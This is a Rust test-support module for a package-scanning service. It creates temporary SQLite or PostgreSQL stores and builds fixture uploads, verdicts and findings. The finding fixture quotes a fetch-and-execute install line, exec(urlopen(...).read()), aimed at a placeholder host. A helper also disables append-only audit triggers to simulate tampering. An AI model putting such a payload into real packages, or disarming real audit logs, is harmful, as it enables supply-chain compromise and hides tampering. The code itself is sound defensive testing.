//! A fresh database for each promise, and the events that fill it.

use std::io::Write as _;
use std::sync::Arc;

use model::{
    Context, Coverage, Digest, Finding, Frame, FrameLine, Gap, GapKind, Level, Outcome, PackageType, Phase, Place,
    RuleStatus, SourceText, UploadEvent, Verdict, VerdictEvent,
};
use sqlx::{AssertSqlSafe, Connection as _, Executor as _};
use store::{Moment, Store};

/// A migrated store, and a way around it.
pub(crate) struct House {
    pub(crate) store: Store,
    pub(crate) url: String,
}

impl House {
    /// Runs SQL that no operation of the store would.
    pub(crate) async fn meddle(&self, sql: &str) -> Result<u64, sqlx::Error> {
        let sql = AssertSqlSafe(sql.to_owned());
        if let Some(path) = self.url.strip_prefix("sqlite:") {
            let mut connection = sqlx::SqliteConnection::connect(path).await?;
            Ok(connection.execute(sql).await?.rows_affected())
        } else {
            let mut connection = sqlx::PgConnection::connect(&self.url).await?;
            Ok(connection.execute(sql).await?.rows_affected())
        }
    }

    /// Turns the append-only triggers off, as somebody with the keys to the database could.
    pub(crate) async fn disarm(&self) {
        if self.url.starts_with("sqlite:") {
            self.meddle("DROP TRIGGER audit_no_update").await.unwrap();
            self.meddle("DROP TRIGGER audit_no_delete").await.unwrap();
        } else {
            self.meddle("ALTER TABLE audit DISABLE TRIGGER ALL").await.unwrap();
        }
    }

    /// Every text in the database, to look for what must not be there.
    pub(crate) async fn texts(&self, sql: &str) -> Vec<String> {
        let sql = AssertSqlSafe(sql.to_owned());
        if let Some(path) = self.url.strip_prefix("sqlite:") {
            let mut connection = sqlx::SqliteConnection::connect(path).await.unwrap();
            sqlx::query_scalar(sql).fetch_all(&mut connection).await.unwrap()
        } else {
            let mut connection = sqlx::PgConnection::connect(&self.url).await.unwrap();
            sqlx::query_scalar(sql).fetch_all(&mut connection).await.unwrap()
        }
    }
}

pub(crate) async fn on_sqlite<F>(promise: impl FnOnce(Arc<House>) -> F)
where
    F: Future<Output = ()> + Send + 'static,
{
    let directory = tempfile::tempdir().unwrap();
    let url = format!("sqlite:{}", directory.path().join("store.db").display());
    let store = Store::connect(&url).await.unwrap();
    store.migrate().await.unwrap();
    let house = Arc::new(House { store, url });
    promise(house.clone()).await;
    house.store.close().await;
}

pub(crate) async fn on_postgres<F>(promise: impl FnOnce(Arc<House>) -> F)
where
    F: Future<Output = ()> + Send + 'static,
{
    let Ok(server) = std::env::var("GATEHOUSE_TEST_POSTGRES") else {
        // Said once, and not by `eprintln`, which is shown for failing tests only.
        static SAID: std::sync::Once = std::sync::Once::new();
        SAID.call_once(|| {
            let _ = std::io::stderr()
                .write_all(b"\nNOT RUN on PostgreSQL: GATEHOUSE_TEST_POSTGRES is not set; this ran on SQLite only\n");
        });
        return;
    };
    let mut random = [0; 8];
    getrandom::fill(&mut random).unwrap();
    let schema = format!("contract_{}", hex::encode(random));
    let mut admin = sqlx::PgConnection::connect(&server).await.unwrap();
    admin.execute(AssertSqlSafe(format!("CREATE SCHEMA {schema}"))).await.unwrap();
    let separator = if server.contains('?') { '&' } else { '?' };
    let url = format!("{server}{separator}options=-csearch_path%3D{schema}");
    let store = Store::connect(&url).await.unwrap();
    store.migrate().await.unwrap();
    let house = Arc::new(House { store, url });
    // In a task, so that the schema is dropped when the promise is broken as well.
    let kept = tokio::spawn(promise(house.clone())).await;
    house.store.close().await;
    admin.execute(AssertSqlSafe(format!("DROP SCHEMA {schema} CASCADE"))).await.unwrap();
    if let Err(broken) = kept {
        std::panic::resume_unwind(broken.into_panic());
    }
}

pub(crate) const NOON: &str = "2026-03-04T12:00:00.000Z";

pub(crate) fn noon() -> Moment {
    Moment::parse(NOON).unwrap()
}

pub(crate) fn seconds(count: u64) -> std::time::Duration {
    std::time::Duration::from_secs(count)
}

pub(crate) fn upload(project: &str, version: &str) -> UploadEvent {
    let filename = format!("{}-{version}.tar.gz", project.replace('-', "_"));
    UploadEvent {
        id: format!("event-{project}-{version}"),
        source: "/index/example".to_owned(),
        project: project.to_owned(),
        version: version.to_owned(),
        sha256: Digest::of(filename.as_bytes()),
        url: format!("https://index.example/{filename}"),
        filename,
        size: Some(1204),
        uploaded_by: Some("u123".to_owned()),
        upload_time: Some("2026-03-04T11:59:00Z".to_owned()),
        previous: None,
    }
}

pub(crate) fn finding(rule: &str) -> Finding {
    Finding {
        rule: rule.to_owned(),
        title: "Downloads a file and runs it during installation".to_owned(),
        level: Level::Critical,
        family: "install".to_owned(),
        status: RuleStatus::Stable,
        tags: vec!["attack.t1105".to_owned()],
        place: Place {
            member: "setup.py".to_owned(),
            line: 14,
            column: 5,
            end_line: 14,
            end_column: 40,
            layers: Vec::new(),
        },
        phase: Some(Phase::Install),
        evidence: "exec(urlopen(\"http://host.invalid/x\").read())".to_owned(),
        frame: Some(Frame {
            lines: vec![FrameLine {
                number: 14,
                text: "    exec(urlopen(\"http://host.invalid/x\").read())".to_owned(),
                mark: Some((4, 40)),
                ..FrameLine::default()
            }],
        }),
        weight: 4.25,
        novel: false,
    }
}

/// A machine's verdict on an upload, by a rulebook.
pub(crate) fn judged(upload: &UploadEvent, outcome: Outcome, score: f64, rulebook: &str) -> VerdictEvent {
    let context: Context = upload.context();
    let gaps = if outcome == Outcome::Incomplete {
        vec![Gap { kind: GapKind::Limit, member: "big.py".to_owned(), detail: "larger than 1 MiB".to_owned() }]
    } else {
        Vec::new()
    };
    let findings = match outcome {
        Outcome::Clear | Outcome::Incomplete => Vec::new(),
        Outcome::Review => vec![finding("rule-review")],
        Outcome::Hold => vec![finding("rule-hold"), finding("rule-hold"), finding("rule-review")],
    };
    VerdictEvent {
        upload_id: upload.id.clone(),
        upload: upload.clone(),
        verdict: Verdict {
            schema: Verdict::SCHEMA,
            sha256: upload.sha256,
            filename: upload.filename.clone(),
            project: upload.project.clone(),
            version: upload.version.clone(),
            packagetype: PackageType::Sdist,
            outcome,
            score,
            summary: format!("{} because of a reason", outcome.as_str()),
            coverage: Coverage::from_gaps(gaps),
            findings,
            rulebook: Digest::of(rulebook.as_bytes()),
            engine: "gatehouse/0.1.0".to_owned(),
            context: context.digest(),
            bytes_packed: 1204,
            bytes_unpacked: 9000,
            members: 3,
            previous: None,
        },
        decided_by: "machine".to_owned(),
        revision: 1,
        took_ms: 212,
        sources: vec![SourceText { member: "setup.py".to_owned(), text: "import os\n\0".to_owned(), cut: 0 }],
    }
}

pub(crate) fn event(project: &str, outcome: Outcome, score: f64) -> VerdictEvent {
    judged(&upload(project, "1.0"), outcome, score, "rulebook 1")
}
